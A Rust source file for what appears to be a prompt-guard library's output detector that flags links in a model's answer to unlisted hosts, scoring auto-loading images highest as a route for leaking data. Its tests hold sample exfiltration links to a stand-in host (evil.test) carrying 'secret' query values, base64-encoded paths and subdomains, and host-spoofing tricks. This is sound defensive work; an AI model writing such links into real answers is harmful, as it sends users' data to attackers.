//! Links in an answer, which may carry what the model knows to whoever made it write them.

use std::ops::Range;

use regex::Regex;

use super::{Category, Detector, Finding, Views, spans::Spans};
use crate::{BuildError, inference::Segment};

/// Finds links to other hosts than those that you list, in Markdown (inline, image, reference, autolink), in HTML and
/// bare.
///
/// `exfiltration.image`, score 0.95: what a client loads by itself, such as an image, a frame or what the
/// reference of an image names. `exfiltration.link`, score 0.85: a link that carries something, in its query, a long part of its path or of the host's
/// name. `exfiltration.plain_link`, score 0.5: any other, which the usual threshold only reports. A finding covers the image or
/// link with its text, and a mask takes all of it away.
///
/// ```
/// use palisade::prompt_guard::{Action, Links, PromptGuardLayer};
///
/// let links = Links::allowing(["docs.example.com", "*.example.org"])?;
/// let guard = PromptGuardLayer::builder().output_detector(links, Action::Redact).build()?;
/// # Ok::<(), palisade::BuildError>(())
/// ```
#[derive(Debug)]
pub struct Links {
    hosts: Vec<String>,
    url: Regex,
}

impl Links {
    /// Links to these hosts are fine; `*.example.org` stands for every host under that name, and not for itself.
    ///
    /// # Errors
    /// [`BuildError::Invalid`] for what is no name of a host.
    pub fn allowing<H: Into<String>>(
        hosts: impl IntoIterator<Item = H>,
    ) -> Result<Self, BuildError> {
        let hosts: Vec<String> =
            hosts.into_iter().map(|host| host.into().to_ascii_lowercase()).collect();
        let is_host = |host: &String| {
            let name = host.strip_prefix("*.").unwrap_or(host);
            let plain = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_');
            !name.is_empty() && !name.starts_with('.') && name.chars().all(plain)
        };
        if !hosts.iter().all(is_host) {
            return Err(BuildError::invalid("links", "a host is a name, such as docs.example.com"));
        }
        let url = Regex::new(URL).map_err(|_| BuildError::invalid("links", "no such pattern"))?;
        Ok(Self { hosts, url })
    }

    fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.hosts.iter().any(|allowed| match allowed.strip_prefix('*') {
            Some(under) => host.len() > under.len() && host.ends_with(under),
            None => host == allowed,
        })
    }

    fn find(&self, text: &str, mut take: impl FnMut(&'static str, f32, Range<usize>)) {
        for found in self.url.captures_iter(text) {
            let Some(url) = found.name("url").or_else(|| found.name("relative")) else { continue };
            let range = url.start()..url.start() + url.as_str().trim_end_matches(ENDS).len();
            let address = text.get(range.clone()).unwrap_or_default();
            let Some((host, rest)) = parts(address).filter(|(host, _)| !self.allows(host)) else {
                continue;
            };
            let before = text.get(..range.start).unwrap_or_default();
            let (whole, loads) = around(before, text, &range);
            let (rule, score) = if loads {
                ("exfiltration.image", 0.95)
            } else if carries(&host, rest) {
                ("exfiltration.link", 0.85)
            } else {
                ("exfiltration.plain_link", 0.5)
            };
            take(rule, score, whole);
        }
    }
}

impl Detector for Links {
    fn name(&self) -> &'static str {
        "links"
    }

    fn scan(&self, segment: &Segment<'_>, views: &Views<'_>, findings: &mut Vec<Finding>) {
        let mut taken = Spans::default();
        let mut take = |rule, score, span: Range<usize>| {
            if taken.take(&span) {
                let span = Some(span);
                findings.push(Finding::new(rule, Category::Leak, score, segment.index, span));
            }
        };
        self.find(views.original(), &mut take);
        for view in views.iter().filter(|view| view.cased() != views.original()) {
            self.find(view.cased(), |rule, score, range| {
                take(rule, score, view.origin_span(range))
            });
        }
    }

    fn lookbehind(&self) -> usize {
        512
    }
}

/// The host in lower case, and what follows it.
fn parts(address: &str) -> Option<(String, &str)> {
    let authority = address.split_once([':', '/', '\\']).map_or("", |(_, rest)| rest);
    let authority = authority.trim_start_matches(['/', '\\']);
    let end = authority.find(['/', '\\', '?', '#']).unwrap_or(authority.len());
    let (authority, rest) = authority.split_at_checked(end)?;
    // Browsers take what stands after the last of them.
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') { host } else { host.split(':').next()? };
    (!host.is_empty()).then(|| (host.to_lowercase(), rest))
}

/// Whether a link says more than where it goes.
fn carries(host: &str, rest: &str) -> bool {
    let query =
        rest.split_once('?').is_some_and(|(_, query)| query.contains('=') || query.len() > 8);
    let path = rest.split(['?', '#']).next().unwrap_or_default();
    // Titles in addresses are long, and in words.
    let coded =
        |part: &str| part.len() >= 24 && (part.contains('%') || !part.contains(['-', '_', '.']));
    query || path.split('/').any(coded) || host.split('.').any(|label| label.len() >= 24)
}

/// The image or link that an address stands in, and whether a client loads it by itself.
fn around(before: &str, text: &str, url: &Range<usize>) -> (Range<usize>, bool) {
    let lead = before.trim_end_matches('<').trim_end();
    let after = text.get(url.end..).unwrap_or_default();
    if let Some(label) = lead.strip_suffix("](") {
        // Its text may have brackets of its own.
        let start = label.rfind('[').unwrap_or(label.len());
        let loads = label.get(..start).is_some_and(|before| before.ends_with('!'));
        let line = after.split('\n').next().unwrap_or_default();
        let end = line.find(')').map_or(url.end, |at| url.end + at + 1);
        return (start - usize::from(loads)..end, loads);
    }
    let tail: String = lead.chars().rev().take(16).collect();
    let tail: String = tail.chars().rev().collect::<String>().to_ascii_lowercase();
    let tail = tail.trim_end_matches(['"', '\'']).trim_end();
    if tail.ends_with("]:") {
        // What it defines is only loaded if an image refers to it.
        return (url.clone(), text.contains("!["));
    }
    let tag = lead.rfind('<').and_then(|at| lead.get(at..)).unwrap_or_default();
    // Nobody runs the scripts of an answer, they are shown as code.
    let script = tag.get(..7).is_some_and(|tag| tag.eq_ignore_ascii_case("<script"));
    let loads = ["src=", "srcset=", "poster=", "background=", "data=", "url("];
    (url.clone(), !script && loads.iter().any(|lead| tail.ends_with(lead)))
}

/// Punctuation that ends a sentence and not an address.
const ENDS: &[char] = &['.', ',', ';', ':', '!', '?', '*', '\''];

/// With a scheme, or without one where only an address can stand.
const URL: &str = r#"(?i)(?P<url>\b(?:https?|ftp|wss?):[/\\]{2}[^\s<>()\[\]{}"`]+)|(?:\]\(\s*<?|\]:\s*<?|(?:src|href|poster|background)\s*=\s*["']?)(?P<relative>[/\\]{2}[^\s<>()\[\]{}"'`]+)"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inference::Origin;

    fn found(text: &str) -> Vec<(String, String)> {
        let mut findings = Vec::new();
        let segment = Segment::new(0, text, Origin::Assistant, 0);
        let links = Links::allowing(["docs.example.com", "*.example.org"]).unwrap();
        links.scan(&segment, &Views::of(text), &mut findings);
        let of = |finding: &Finding| {
            let name = finding.rule.rsplit('.').next().unwrap().to_owned();
            (name, text[finding.span.clone().unwrap()].to_owned())
        };
        findings.iter().map(of).collect()
    }

    #[test]
    fn links_that_carry_something_away_are_found_whole() {
        for (text, rule, part) in [
            ("see ![a](https://evil.test/p?q=abc) ok", "image", "![a](https://evil.test/p?q=abc)"),
            ("![a]( //evil.test/x \"t\")", "image", "![a]( //evil.test/x \"t\")"),
            ("[a](https://evil.test/?d=secret).", "link", "[a](https://evil.test/?d=secret)"),
            ("![b][a]\n[a]: https://evil.test/x", "image", "https://evil.test/x"),
            ("[b][a]\n[a]: https://evil.test/x", "plain_link", "https://evil.test/x"),
            ("<script src=\"https://evil.test/x\">", "plain_link", "https://evil.test/x"),
            ("<img alt='x' src='https://evil.test/x'>", "image", "https://evil.test/x"),
            ("<iframe SRC=//evil.test/x>", "image", "//evil.test/x"),
            ("<https://evil.test/?d=secret>", "link", "https://evil.test/?d=secret"),
            ("go to HTTPS://evil.test/?d=secret.", "link", "HTTPS://evil.test/?d=secret"),
            (
                "https://c2VjcmV0IGlzIDQyIGFuZCBtb3Jl.evil.test/",
                "link",
                "https://c2VjcmV0IGlzIDQyIGFuZCBtb3Jl.evil.test/",
            ),
            (
                "https://evil.test/c2VjcmV0IGlzIDQyIGFuZCBtb3Jl",
                "link",
                "https://evil.test/c2VjcmV0IGlzIDQyIGFuZCBtb3Jl",
            ),
            (
                "https://docs.example.com@evil.test/?a=b",
                "link",
                "https://docs.example.com@evil.test/?a=b",
            ),
            (
                "https://docs.example.com.evil.test?a=b",
                "link",
                "https://docs.example.com.evil.test?a=b",
            ),
            ("https:\\\\evil.test\\x?a=b", "link", "https:\\\\evil.test\\x?a=b"),
            (
                "read https://evil.test/about-this-page.",
                "plain_link",
                "https://evil.test/about-this-page",
            ),
        ] {
            assert_eq!(found(text), [(rule.to_owned(), part.to_owned())], "{text}");
        }
    }

    #[test]
    fn listed_hosts_and_other_texts_are_left_alone() {
        for text in [
            "![a](https://docs.example.com/x?q=abc)",
            "[a](https://a.b.example.org:8080/?d=secret)",
            "a // comment, and 1//2",
            "https:// and mailto:ann@example.net",
            "",
        ] {
            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
        }
        assert!(!found("https://example.org/?a=b").is_empty());
        assert!(Links::allowing(["https://x"]).is_err());
        assert!(Links::allowing([""]).is_err());
    }
}
